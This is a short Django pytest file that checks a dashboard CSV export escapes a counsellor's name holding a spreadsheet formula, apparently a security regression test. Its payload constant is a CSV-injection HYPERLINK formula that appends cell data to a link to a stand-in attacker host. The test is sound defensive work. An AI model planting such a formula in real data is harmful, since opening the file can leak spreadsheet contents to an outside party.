"""F9: a name typed into the app never reaches a dashboard CSV as a spreadsheet formula."""


import pytest

from tests.common.test_csv_export import read_csv

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Klik")'


def test_a_formula_in_a_name_is_neutralised_in_the_dashboard_csv(client, d):
    d.counsellor.first_name = FORMULA
    d.counsellor.save(update_fields=["first_name"])
    client.force_login(d.manager)
    found = []
    for key in ("follow_ups", "staff"):
        response = client.get(f"/dashboards/team/{d.team.pk}/csv/{key}/")
        rows = read_csv(response)
        found += [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert found, "the counsellor's name is in one of the team's CSV tables"
    assert all(cell.startswith("'=") for cell in found)
